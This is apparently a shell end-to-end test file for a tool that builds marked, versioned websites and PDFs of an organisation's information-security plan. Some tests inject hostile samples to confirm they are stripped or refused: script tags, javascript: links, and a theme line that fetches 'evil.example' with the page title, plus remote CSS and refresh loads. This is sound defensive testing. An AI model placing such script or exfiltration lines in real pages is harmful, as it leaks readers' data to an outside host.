# End-to-end tests: the site. Sourced by tests/e2e/run.sh
# with tests/e2e/lib.sh; every test_* function here is one test.

# --- the site ------------------------------------------------------------------

test_build_approved_site() {
	approved_repo "$TMP/ap"
	run -C "$TMP/ap" build --rev v1 -o "$TMP/site"
	expect_rc 0
	run -C "$TMP/ap" build --rev approved/v1 -o "$TMP/site" --today 2026-12-01
	expect_rc 0
	expect_out "^$TMP/site: all marked documents, 25 pages and 2 files; approved version 1$"
	site_check "$TMP/site" || fail "the site has problems"
	# The checker itself fails on a broken link.
	cp -r "$TMP/site" "$TMP/broken"
	sed -i 's|href="plan/03-allmanna-rutiner.html|href="plan/nope.html|' "$TMP/broken/index.html"
	site_check "$TMP/broken" >/dev/null && fail "site_check accepts a broken link"
	# In a real browser, from file://: the banner, the stamp, the marking.
	offline_skip "the rest needs a headless browser" && return 0
	browser --dump-dom "file://$TMP/site/index.html" >"$TMP/dom.html" || fail "browser"
	grep -q '<span class="marking">Sekretessbelagd</span> <span class="legal-basis">Sekretessgrund: JulkL 24 § 1 mom. 7 p.</span>' "$TMP/dom.html" ||
		fail "front page banner: $(grep -o '<header.*</header>' "$TMP/dom.html")"
	grep -q '<p class="stamp stamp-approved">Godkänd version 1, 2026-11-23, anna (ansvarig-forestandare)</p>' "$TMP/dom.html" ||
		fail "approval stamp missing"
	grep -q 'UTKAST' "$TMP/dom.html" && fail "an approved version is marked as a draft"
	browser --dump-dom "file://$TMP/site/plan/03-allmanna-rutiner.html" >"$TMP/dom3.html"
	grep -q '<span class="marking">Icke-offentlig handling</span>' "$TMP/dom3.html" || fail "chapter 3 marking"
	grep -q '<footer class="banner banner-bottom"' "$TMP/dom3.html" || fail "no bottom banner"
	grep -q 'href="../appendices/informationssakerhetspolicy.html"' "$TMP/dom3.html" || fail "link not rewritten"
	# The generated pages.
	grep -q '<td><a href="systems/omsorg-pro.html">Omsorg Pro</a></td><td>7.4</td><td>Vårdsystem Oy</td><td>2027-03-31</td><td class="num">120</td>' "$TMP/site/register.html" ||
		fail "register row: $(grep 'omsorg-pro.html' "$TMP/site/register.html")"
	grep -q 'loggrapport-2026-10.csv' "$TMP/site/evidence.html" || fail "evidence attachment"
	[ -f "$TMP/site/evidence/2026/loggrapport-2026-10.csv" ] || fail "attachment not copied"
	grep -q 'class="depth-1 overdue"' "$TMP/site/matrix.html" || fail "the overdue log review is not marked"
	grep -q 'Version 1 (denna version)' "$TMP/site/versions.html" || fail "version history"
	# Generated pages are marked at least at THL's floor and at least as high
	# as what they summarise.
	grep -q '<body class="marking-icke-offentlig ' "$TMP/site/versions.html" ||
		fail "the version history is marked below the floor: $(grep '<body' "$TMP/site/versions.html")"
	grep -q '<body class="marking-sekretessbelagd ' "$TMP/site/register.html" || fail "register marking"
	# Printed, every sheet carries the marking at top and bottom.
	browser --no-pdf-header-footer --print-to-pdf="$TMP/ch6.pdf" \
		"file://$TMP/site/plan/06-informationssystemen.html" >/dev/null || fail "print"
	pdftotext -layout "$TMP/ch6.pdf" "$TMP/ch6.txt" || fail "pdftotext"
	awk 'BEGIN { RS = "\f" } NF { pages++; if (gsub(/Sekretessbelagd · Sekretessgrund: JulkL 24 § 1 mom. 7 p./, "&") < 2) bad++ }
	     END { if (pages < 2 || bad) { print pages " sheets, " bad " without the marking twice"; exit 1 } }' \
		"$TMP/ch6.txt" || fail "printed marking"
	grep -q 'UTKAST' "$TMP/ch6.txt" && fail "an approved version prints as a draft"
	# Screenshots of the front page and a chapter, kept for a person to look at.
	mkdir -p "$ROOT/build/screenshots"
	browser --screenshot="$ROOT/build/screenshots/front.png" --window-size=1280,1000 "file://$TMP/site/index.html" >/dev/null
	browser --screenshot="$ROOT/build/screenshots/chapter6.png" --window-size=1280,1400 \
		"file://$TMP/site/plan/06-informationssystemen.html" >/dev/null
	[ -s "$ROOT/build/screenshots/front.png" ] || fail "no screenshot"
	echo "# screenshots: build/screenshots/front.png, build/screenshots/chapter6.png"
}
test_build_stamp_needs_a_verified_version() {
	approved_repo "$TMP/ap"
	local msg
	msg=$(git -C "$TMP/ap" cat-file tag approved/v1 | sed '1,/^$/d')
	# The tag moved to another commit: its name alone gives no stamp.
	sed -i 's/^Planen gäller en/Planen gäller nu en/' "$TMP/ap/plan/02-foremal-och-uppdatering.md"
	git -C "$TMP/ap" commit -qam "senare"
	retag "$TMP/ap" approved/v1 HEAD "$msg"
	run -C "$TMP/ap" build --rev v1 -o "$TMP/site"
	expect_rc 0
	expect_out 'DRAFT: commit [0-9a-f]{12} is not an approved version$'
	grep -q 'Godkänd version' "$TMP/site/index.html" && fail "a moved tag gives an approval stamp"
	grep -q '<strong>UTKAST / DRAFT</strong>' "$TMP/site/index.html" || fail "no draft mark"
	grep -q 'inte godkänd' "$TMP/site/versions.html" || fail "the history does not say version 1 fails"
	return 0
}
test_build_draft_and_deterministic() {
	approved_repo "$TMP/ap"
	echo >>"$TMP/ap/plan/01-anvandningsandamal.md"
	git -C "$TMP/ap" commit -qam "ändring"
	# A clean working tree builds HEAD: a draft, with its commit.
	unset SAKRA_TODAY
	run -C "$TMP/ap" build -o "$TMP/s1"
	expect_rc 0
	expect_out 'DRAFT: commit [0-9a-f]{12} is not an approved version$'
	grep -q "<strong>UTKAST / DRAFT</strong> — commit $(git -C "$TMP/ap" rev-parse --short=12 HEAD)" "$TMP/s1/index.html" ||
		fail "draft stamp"
	grep -q 'Godkänd version' "$TMP/s1/index.html" && fail "a draft shows an approval stamp"
	# The same commit gives the same bytes, also from a clone elsewhere.
	run -C "$TMP/ap" build --rev HEAD -o "$TMP/s2"
	git clone -q "$TMP/ap" "$TMP/clone" && git -C "$TMP/clone" fetch -q origin 'refs/tags/*:refs/tags/*'
	run -C "$TMP/clone" build --rev "$(git -C "$TMP/ap" rev-parse HEAD)" -o "$TMP/s3"
	diff -r "$TMP/s1" "$TMP/s2" >/dev/null || fail "two builds of one commit differ"
	diff -r "$TMP/s1" "$TMP/s3" >/dev/null || fail "a clone builds other bytes"
	# Uncommitted changes: marked as such.
	echo >>"$TMP/ap/plan/01-anvandningsandamal.md"
	run -C "$TMP/ap" build -o "$TMP/s4"
	expect_out 'DRAFT: the working tree has uncommitted changes$'
	grep -q 'arbetskopia med ändringar som inte är incheckade' "$TMP/s4/index.html" || fail "uncommitted mark"
	# A previous build is replaced; anything else is refused and kept.
	run -C "$TMP/ap" build -o "$TMP/s4"
	expect_rc 0
	mkdir "$TMP/mine" && echo keep >"$TMP/mine/notes.txt"
	run -C "$TMP/ap" build -o "$TMP/mine"
	expect_rc 2
	expect_err 'is not a site sakra built'
	[ "$(cat "$TMP/mine/notes.txt")" = keep ] || fail "a foreign directory was touched"
	ls "$TMP" | grep -q '\.tmp-' && fail "a temporary directory was left"
	return 0
}
# A killed build leaves its staging folder; the next build removes it. A
# secret key that others can read is warned about.
test_build_stale_and_key_mode() {
	approved_repo "$TMP/ap"
	mkdir -p "$TMP/web.tmp-Ab3dE9/plan"
	echo half >"$TMP/web.tmp-Ab3dE9/plan/x.html"
	run -C "$TMP/ap" build -o "$TMP/web"
	expect_rc 0
	! ls -A "$TMP" | grep -q '\.tmp-' || fail "the killed build's folder is still there"
	echo >>"$TMP/ap/plan/01-anvandningsandamal.md"
	git -C "$TMP/ap" commit -qam "ändring"
	chmod 644 "$TMP/k/anna.key"
	run -C "$TMP/ap" approve --key "$TMP/k/anna.key"
	chmod 600 "$TMP/k/anna.key"
	expect_rc 0
	expect_err 'warning: .*/anna.key can be read by others \(mode 644\); chmod 600 it'
}

test_build_edition_withholds() {
	new_repo "$TMP/ex"
	# A link from a staff document to a withheld one.
	sed -i 's|^Planen gäller en|Se [Systembeskrivning för Omsorg Pro, hemlig](../systems/omsorg-pro.md). Planen gäller en|' \
		"$TMP/ex/plan/02-foremal-och-uppdatering.md"
	git -C "$TMP/ex" commit -qam "länk"
	run -C "$TMP/ex" build --edition personal -o "$TMP/staff"
	expect_rc 0
	expect_out 'edition personal, 18 pages and 1 file \(8 withheld by the edition\)'
	site_check "$TMP/staff" || fail "the staff site has problems"
	for f in plan/06-informationssystemen.html plan/07-driftmiljon.html systems/omsorg-pro.html \
		evidence/2026/loggranskning-2026-10-31.html evidence/2026/loggrapport-2026-10.csv; do
		[ ! -e "$TMP/staff/$f" ] || fail "$f is above the edition's level"
	done
	# No title or text of a withheld file leaks, not even as link text.
	for leak in 'Loggranskning oktober' 'support@vardsystem' 'hemlig' 'loggrapport' 'Klientdokumentation inom'; do
		grep -rq "$leak" "$TMP/staff" && fail "'$leak' leaks into the staff edition: $(grep -rl "$leak" "$TMP/staff")"
	done
	grep -q '<em>\[ingår inte i denna utgåva\]</em>' "$TMP/staff/plan/02-foremal-och-uppdatering.html" ||
		fail "the withheld link is not marked"
	grep -q '<span class="marking">Icke-offentlig handling</span>' "$TMP/staff/index.html" ||
		fail "the front page does not carry the edition's highest marking"
	# What the edition leaves out is "not in this edition", never missing,
	# overdue or absent: chapters in the navigation and the matrix, the
	# obligations whose evidence is withheld, the register's classes.
	for f in index.html matrix.html register.html plan/01-anvandningsandamal.html; do
		grep -q '(saknas)\|>saknas<\|försenad' "$TMP/staff/$f" &&
			fail "$f calls withheld content missing or overdue: $(grep -o '[^>]*\(saknas\|försenad\)[^<]*' "$TMP/staff/$f" | head -3)"
	done
	grep -q '7 Informationssäkerhetsrutiner för informationssystemens driftmiljö (ingår inte i denna utgåva)' \
		"$TMP/staff/index.html" || fail "a withheld chapter is not marked as such in the navigation"
	grep -q 'class="[^"]*missing' "$TMP/staff/matrix.html" && fail "the matrix marks a withheld section missing"
	grep -q 'nyare bevis kan finnas i filer som inte ingår i denna utgåva' "$TMP/staff/matrix.html" ||
		fail "the matrix does not say the evidence is withheld"
	grep -q 'Inga system i denna klass\.' "$TMP/staff/register.html" && fail "the register says a class has no systems"
	grep -q 'Systembeskrivningar som inte ingår i denna utgåva: 3' "$TMP/staff/register.html" ||
		fail "the register does not count the withheld systems"
	# where nothing is left out, a missing chapter is missing
	git -C "$TMP/ex" rm -q plan/07-driftmiljon.md
	git -C "$TMP/ex" commit -qm "utan 7"
	run -C "$TMP/ex" build --edition tillsyn -o "$TMP/full"
	expect_rc 0
	grep -q '7 Informationssäkerhetsrutiner för informationssystemens driftmiljö (saknas)' "$TMP/full/index.html" ||
		fail "a missing chapter is not marked missing in a full edition"
	run -C "$TMP/ex" build --edition nosuch -o "$TMP/x"
	expect_rc 2
	expect_err "no edition 'nosuch' \(editions: personal, tillsyn\)"
	[ ! -e "$TMP/x" ] || fail "output written after a refusal"
}
test_build_no_raw_html_or_remote_loads() {
	new_repo "$TMP/ex"
	cat >>"$TMP/ex/plan/01-anvandningsandamal.md" <<'MD'

<script>alert(1)</script>

<img src="https://example.org/raw.png">

[klicka](javascript:alert(1)) och [data](data:text/html,x) och <span onclick="x">inline</span>

![logga](https://example.org/logo.png)
MD
	git -C "$TMP/ex" commit -qam "fientligt"
	run -C "$TMP/ex" build -o "$TMP/site"
	expect_rc 0
	local page=$TMP/site/plan/01-anvandningsandamal.html
	grep -q '<script' "$page" && fail "raw HTML passed through"
	grep -q 'javascript:' "$page" && fail "a javascript: link passed through"
	grep -q 'onclick' "$page" && fail "inline raw HTML passed through"
	grep -q '<a href="">klicka</a>' "$page" || fail "the javascript: link is not emptied"
	grep -qE 'src="https?:' "$page" && fail "a remote image is loaded"
	grep -q 'extern bild visas inte: https://example.org/logo.png' "$page" || fail "remote image note"
	site_check "$TMP/site" || fail "the site has problems"
	# The browser makes no request outside the site.
	offline_skip "the rest needs a headless browser" && return 0
	browser --log-net-log="$TMP/net.json" --dump-dom "file://$page" >/dev/null || fail "browser"
	grep -q 'example.org' "$TMP/net.json" && fail "a request left the site"
	# Control: without the site's policy the same image is requested, so the
	# net log does show requests that leave.
	printf '<!DOCTYPE html><img src="https://example.org/control.png">' >"$TMP/control.html"
	browser --log-net-log="$TMP/net2.json" --dump-dom "file://$TMP/control.html" >/dev/null
	grep -q 'example.org/control.png' "$TMP/net2.json" || fail "the net log does not show requests"
	return 0
}
test_build_many_appendices() {
	new_repo "$TMP/ex"
	for i in $(seq -w 1 30); do
		printf -- '---\ntitle: "Anvisning %s"\nclassification: intern\n---\n\n# Anvisning %s\n' "$i" "$i" \
			>"$TMP/ex/appendices/anvisning-$i.md"
	done
	git -C "$TMP/ex" add -A && git -C "$TMP/ex" commit -qm anvisningar
	run -C "$TMP/ex" build -o "$TMP/site"
	expect_rc 0
	site_check "$TMP/site" || fail "the site has problems"
	# Past 25, the navigation links to one list instead of growing every page.
	grep -q '<a href="../appendices.html">Alla bilagor (33)</a>' "$TMP/site/plan/03-allmanna-rutiner.html" ||
		fail "no link to the appendix list"
	grep -q 'anvisning-07.html' "$TMP/site/plan/03-allmanna-rutiner.html" && fail "every page lists every appendix"
	grep -q '<a href="appendices/anvisning-07.html">Anvisning 07</a> <span class="meta">(Intern)</span>' "$TMP/site/appendices.html" ||
		fail "the appendix list"
	return 0
}
test_build_theme_override_and_language() {
	new_repo "$TMP/ex"
	mkdir -p "$TMP/ex/theme"
	printf '<span class="marking">MÄRKNING: {{marking}}</span>\n' >"$TMP/ex/theme/marking.html"
	sed -i 's/^language: sv/language: en/' "$TMP/ex/sakra.yml"
	git -C "$TMP/ex" add -A && git -C "$TMP/ex" commit -qm tema
	run -C "$TMP/ex" build -o "$TMP/site"
	expect_rc 0
	grep -q 'MÄRKNING: Sekretessbelagd' "$TMP/site/index.html" || fail "the repository's theme file is not used"
	grep -q '<h2>Contents</h2>' "$TMP/site/index.html" || fail "English interface words"
	# a Finnish plan gets Finnish interface words
	new_repo "$TMP/fi"
	sed -i 's/^language: sv/language: fi/' "$TMP/fi/sakra.yml"
	git -C "$TMP/fi" commit -qam kieli
	run -C "$TMP/fi" build -o "$TMP/fi-site"
	expect_rc 0
	grep -q '<html lang="fi"' "$TMP/fi-site/index.html" || fail "lang=fi"
	grep -q '<h2>Sisällys</h2>' "$TMP/fi-site/index.html" || fail "Finnish interface words"
	grep -q 'Innehåll' "$TMP/fi-site/index.html" && fail "Swedish words on a Finnish site"
	# A broken template names its file and line; nothing is written.
	printf 'ok\n{{#marking}}\n' >"$TMP/ex/theme/marking.html"
	git -C "$TMP/ex" commit -qam trasig
	run -C "$TMP/ex" build -o "$TMP/site2"
	expect_rc 2
	expect_err '^sakra: marking.html:2: section .marking. is not closed'
	[ ! -e "$TMP/site2" ] || fail "a partial site was left"
	ls "$TMP" | grep -q 'site2.tmp' && fail "temporary directory left"
	return 0
}

# Whatever a plan's own theme says, no page runs script or contacts a host:
# sakra writes the policy, and a theme with script or remote loads is
# refused by check, build and bundle.
test_theme_cannot_run_script() {
	fresh
	new_repo "$TMP/th"
	mkdir -p "$TMP/th/theme"
	# a layout that drops the policy: sakra's is in every page all the same
	grep -v 'Content-Security-Policy' "$ROOT/theme/layout.html" >"$TMP/th/theme/layout.html"
	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm tema
	run -C "$TMP/th" check
	expect_rc 0
	run -C "$TMP/th" build -o "$TMP/th-site"
	expect_rc 0
	site_check "$TMP/th-site" >/dev/null || fail "the site: $(site_check "$TMP/th-site")"
	# script and a remote fetch in every page
	sed -i 's|</head>|<script>fetch("https://evil.example/?" + document.title)</script>\n</head>|' \
		"$TMP/th/theme/layout.html"
	local line
	line=$(grep -n '<script>' "$TMP/th/theme/layout.html" | cut -d: -f1)
	git -C "$TMP/th" commit -qam skript
	run -C "$TMP/th" check
	expect_rc 1
	expect_out "^theme/layout.html:$line:1: error: an element that runs script, loads or submits elsewhere; a theme holds no script and reaches no other host: remove it \[theme.unsafe\]$"
	run -C "$TMP/th" build -o "$TMP/th-site2"
	expect_rc 2
	expect_err "theme/layout.html:$line: an element that runs script"
	[ ! -e "$TMP/th-site2" ] || fail "a site was built with a script"
	run -C "$TMP/th" bundle --draft --rev HEAD --format tar -o "$TMP/th.tar"
	[ "$RC" != 0 ] || fail "a bundle was made with a script"
	[ ! -e "$TMP/th.tar" ] || fail "a bundle was written"
	# a stylesheet that loads from elsewhere, a refresh to elsewhere
	git -C "$TMP/th" checkout -q HEAD~1 -- theme/layout.html
	printf 'body { background: url("https://evil.example/t.png") }\n' >"$TMP/th/theme/style.css"
	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm css
	run -C "$TMP/th" check
	expect_out '^theme/style.css:1:1: error: a url\(\) outside the site'
	rm "$TMP/th/theme/style.css"
	sed -i 's|<head>|<head>\n<meta http-equiv="refresh" content="0;url=https://evil.example/">|' \
		"$TMP/th/theme/layout.html"
	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm refresh
	run -C "$TMP/th" check
	expect_out '^theme/layout.html:[0-9]+:1: error: a <meta http-equiv>'
}

# The front page's title is the organisation's name once; every other page's
# title names the page, then the organisation.
test_site_titles() {
	new_repo "$TMP/ti"
	run -C "$TMP/ti" build -o "$TMP/ti-site"
	expect_rc 0
	grep -q '<title>Solbacka Vård Ab</title>' "$TMP/ti-site/index.html" ||
		fail "the front page's title: $(grep -o '<title>[^<]*' "$TMP/ti-site/index.html")" || return 1
	grep -q '<title>Systemregister — Solbacka Vård Ab</title>' "$TMP/ti-site/register.html" ||
		fail "the register page's title: $(grep -o '<title>[^<]*' "$TMP/ti-site/register.html")"
}

# build --format pdf: the staff edition of an approved version as one PDF/A
# document, rendered by WeasyPrint from the site's pages and print
# stylesheet. Its cover, chapters, markings and withheld chapters are in the
# text; qpdf finds no damage; it declares PDF/A-3b; the signed MANIFEST and
# its signature are embedded and verify with minisign; a second build gives
# the same bytes; without WeasyPrint it names the package and writes nothing.
test_build_pdf() {
	approved_repo "$TMP/pdf" || return 1
	run -C "$TMP/pdf" build --rev v1 --edition personal --format pdf -o "$TMP/personal.pdf"
	expect_rc 0 || return 1
	expect_out "^$TMP/personal.pdf: edition personal, [0-9]+ documents in one PDF/A-3b file \([0-9]+ withheld by the edition\); approved version 1$" ||
		return 1
	qpdf --check "$TMP/personal.pdf" >"$TMP/qpdf.txt" 2>&1 || { cat "$TMP/qpdf.txt"; fail "qpdf --check"; return 1; }
	pdfinfo -meta "$TMP/personal.pdf" | grep -q 'pdfaid:part="3" pdfaid:conformance="B"' ||
		fail "the PDF does not declare PDF/A-3b" || return 1
	! pdffonts "$TMP/personal.pdf" | awk 'NR > 2 && $(NF-4) != "yes"' | grep -q . ||
		fail "a font is not embedded: $(pdffonts "$TMP/personal.pdf")" || return 1
	pdftotext "$TMP/personal.pdf" "$TMP/personal.txt"
	local t
	for t in 'Solbacka Vård Ab' 'Godkänd version 1' 'Godkänd av' \
		'anna \(ansvarig-forestandare\), 2026-11-23 — Beslut: Ledningsgruppen 20.11.2026 § 4' \
		'^ *1\. Informationssäkerhetsplanens' '^ *3\. Allmänna' '^ *8\. Informationssäkerhetsrutiner för' \
		'6 Informationssäkerhetsrutiner för informationssystemen \(ingår inte i denna utgåva\)' \
		'Icke-offentlig handling' 'Systemregister'; do
		grep -qE -- "$t" "$TMP/personal.txt" || fail "the PDF's text lacks: $t" || return 1
	done
	# the staff edition holds nothing secret: no sheet is marked so
	! grep -q 'Sekretessbelagd' "$TMP/personal.txt" || fail "a secret marking in the staff edition" ||
		return 1
	# the embedded MANIFEST is the signed one, and the cover names its hash
	mkdir -p "$TMP/att"
	pdfdetach -saveall -o "$TMP/att" "$TMP/personal.pdf" || fail "pdfdetach" || return 1
	local sig
	sig=$(ls "$TMP/att" | grep '^MANIFEST\..*\.minisig$') || fail "no signature embedded: $(ls "$TMP/att")" || return 1
	minisign -Vq -m "$TMP/att/MANIFEST" -x "$TMP/att/$sig" -p "$TMP/k/anna.pub" ||
		fail "the embedded signature does not verify" || return 1
	grep -q "$(sha256sum "$TMP/att/MANIFEST" | cut -c1-64)" "$TMP/personal.txt" ||
		fail "the cover does not name the MANIFEST's SHA-256" || return 1
	# reproducible
	run -C "$TMP/pdf" build --rev v1 --edition personal --format pdf -o "$TMP/again.pdf"
	expect_rc 0 || return 1
	cmp -s "$TMP/personal.pdf" "$TMP/again.pdf" || fail "two builds of v1 differ" || return 1
	! grep -q "sakra-pdf" "$TMP/personal.pdf" || fail "the PDF names a temporary folder" || return 1
	# the whole plan: the secret chapters, marked so
	run -C "$TMP/pdf" build --rev v1 --format pdf -o "$TMP/all.pdf"
	expect_rc 0 || return 1
	pdftotext "$TMP/all.pdf" - | grep -q 'Sekretessbelagd · Sekretessgrund: JulkL 24 § 1 mom. 7 p.' ||
		fail "no sheet marked secret with its legal basis" || return 1
	# more documents than WeasyPrint renders at a time (100): rendered in
	# parts, joined by qpdf, still PDF/A, whole and reproducible
	local i
	mkdir -p "$TMP/pdf/appendices/many"
	for i in $(seq 101 230); do
		printf -- '---\ntitle: "Anvisning %d"\nclassification: icke-offentlig\n---\n\n# Anvisning %d\n\nText %d.\n' \
			"$i" "$i" "$i" >"$TMP/pdf/appendices/many/a$i.md"
	done
	git -C "$TMP/pdf" add -A && git -C "$TMP/pdf" commit -qm "många anvisningar"
	run -C "$TMP/pdf" build --rev HEAD --format pdf -o "$TMP/many.pdf"
	expect_rc 0 || return 1
	expect_out "1[0-9][0-9] documents in one PDF/A-3b file" || return 1
	run -C "$TMP/pdf" build --rev HEAD --format pdf -o "$TMP/many2.pdf"
	cmp -s "$TMP/many.pdf" "$TMP/many2.pdf" || fail "two builds in parts differ" || return 1
	qpdf --check "$TMP/many.pdf" >/dev/null 2>&1 || fail "qpdf --check of the joined PDF" || return 1
	pdfinfo -meta "$TMP/many.pdf" | grep -q 'pdfaid:part="3"' || fail "the joined PDF lost PDF/A" || return 1
	pdftotext "$TMP/many.pdf" - | grep -q '^Anvisning 230$' && pdftotext "$TMP/many.pdf" - | grep -q 'Anvisning 101' ||
		fail "a part is missing from the joined PDF" || return 1
	# another python3 first on PATH (pyenv, a virtual environment) does not
	# hide Debian's WeasyPrint
	local v
	v=$(/usr/bin/python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])')
	mkdir -p "$TMP/otherpy/bin" "$TMP/otherpy/lib/python$v"
	printf '#!/bin/sh\nexit 1\n' >"$TMP/otherpy/bin/python3" && chmod +x "$TMP/otherpy/bin/python3"
	touch "$TMP/otherpy/lib/python$v/os.py"   # what makes it a Python's home
	PATH=$TMP/otherpy/bin:$PATH run -C "$TMP/pdf" build --rev v1 --edition personal --format pdf -o "$TMP/path.pdf"
	expect_rc 0 || return 1
	cmp -s "$TMP/personal.pdf" "$TMP/path.pdf" || fail "another python3 on PATH changed the PDF" || return 1
	# without WeasyPrint: the package to install, exit 2, nothing written
	mkdir -p "$TMP/nowp"
	echo 'raise ImportError("not installed")' >"$TMP/nowp/weasyprint.py"
	PYTHONPATH=$TMP/nowp run -C "$TMP/pdf" build --rev v1 --format pdf -o "$TMP/none.pdf"
	expect_rc 2 || return 1
	expect_err "install the Debian packages weasyprint and qpdf" || return 1
	[ ! -e "$TMP/none.pdf" ] || fail "a PDF was written"
}
